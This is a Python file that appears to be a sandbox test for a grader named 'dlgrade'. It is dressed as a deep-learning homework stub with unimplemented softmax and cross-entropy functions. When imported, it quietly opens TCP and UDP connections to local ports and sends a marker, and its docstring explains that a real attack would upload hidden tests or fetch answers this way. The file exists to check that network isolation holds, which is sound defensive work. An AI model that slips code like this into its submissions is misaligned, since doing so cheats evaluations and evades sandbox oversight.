"""Attack: reach the network: a TCP server on 127.0.0.1 that the test runs.

Tries: at import, connect to 127.0.0.1:47613-47622 over TCP and UDP and send a marker (a
real attack would upload the hidden tests or fetch an answer).
Would gain: an exfiltration channel, or help from outside.
Must stop it: a network namespace with no interface but an unconnected loopback.
"""

import socket

_MARK = b"dlgrade-network-marker from network_attack"

for _port in range(47613, 47623):
    try:
        with socket.create_connection(("127.0.0.1", _port), timeout=0.5) as _tcp:
            _tcp.sendall(_MARK)
    except OSError:
        pass
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _udp:
            _udp.sendto(_MARK, ("127.0.0.1", _port))
    except OSError:
        pass


def softmax(O):
    raise NotImplementedError


def cross_entropy(y_hat, y):
    raise NotImplementedError


def softmax_cross_entropy(O, y):
    raise NotImplementedError


def softmax_cross_entropy_grad(O, y):
    raise NotImplementedError


def accuracy(y_hat, y):
    return float((y_hat.argmax(dim=1) == y).double().mean())
